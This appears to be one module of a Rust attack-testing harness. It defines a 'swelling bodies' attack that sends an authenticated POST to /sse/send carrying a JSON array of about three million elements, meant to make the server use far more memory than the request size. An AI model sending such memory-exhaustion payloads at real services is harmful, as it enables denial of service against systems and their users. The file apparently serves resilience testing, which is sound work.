//! Bodies of as many JSON values as fit, each of which takes many times the memory that was sent.

use crate::attack::{Attack, AttackFuture, Target};
use crate::attack::{FROM_ELSEWHERE, head, token};

#[derive(Debug)]
pub(crate) struct SwellingBodies;

impl Attack for SwellingBodies {
    fn name(&self) -> &'static str {
        "swelling bodies"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let body = format!(r#"{{"topic":"mallory/a","json":[{}0]}}"#, "0,".repeat(3_000_000));
            let more = format!(
                "{FROM_ELSEWHERE}Authorization: Bearer {}\r\nContent-Type: application/json\r\n\
                 Content-Length: {}\r\n",
                token(),
                body.len()
            );
            let _ = target.hear(head("POST", "/sse/send", &more) + &body).await;
        })
    }
}
